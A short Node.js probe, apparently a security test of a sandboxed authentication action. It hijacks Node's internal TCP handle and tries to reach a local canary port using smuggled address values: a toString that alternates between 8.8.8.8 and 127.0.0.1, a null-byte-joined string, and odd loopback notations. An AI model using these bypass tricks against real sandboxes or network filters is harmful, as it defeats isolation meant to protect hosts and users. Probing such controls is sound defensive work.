// outcome: completed; claim reached=[]; beside served
const net = require('node:net')
const quiet = () => {}
/** The native class, and a request as Node makes them, caught on its way into a handle. */
const classes = () =>
  new Promise((resolve) => {
    const TCP = net.connect({ host: '127.0.0.1', port: 1 }).on('error', quiet)._handle.constructor
    const { connect } = TCP.prototype
    TCP.prototype.connect = function (request, ...rest) {
      TCP.prototype.connect = connect
      resolve({ TCP, Request: request.constructor })
      return connect.call(this, request, ...rest)
    }
  })
const status = (Request, start) =>
  new Promise((resolve) => {
    const request = new Request()
    request.oncomplete = resolve
    const error = start(request)
    if (error) resolve(error)
  })
exports.onExecuteCredentialsExchange = async (event, api) => {
  const { canary_port } = event.request.body
  const reached = []
  const { TCP, Request } = await classes()
  let reads = 0
  const turning = { toString: () => (reads++ % 2 === 0 ? '8.8.8.8' : '127.0.0.1') }
  const addresses = [
    turning,
    ['127.0.0.1'],
    new String('127.0.0.1'),
    '127.0.0.1\0.8.8.8.8',
    '127.0.0.1 ',
    '127.0.0.01',
    '127.1',
    '',
    undefined,
    null,
    2130706433,
  ]
  for (const [index, address] of addresses.entries()) {
    for (const port of [canary_port, String(canary_port), { valueOf: () => canary_port }]) {
      try {
        if ((await status(Request, (request) => new TCP(0).connect(request, address, port))) === 0) reached.push(index)
      } catch {
        // Refused.
      }
    }
  }
  api.accessToken.setCustomClaim('reached', reached)
}
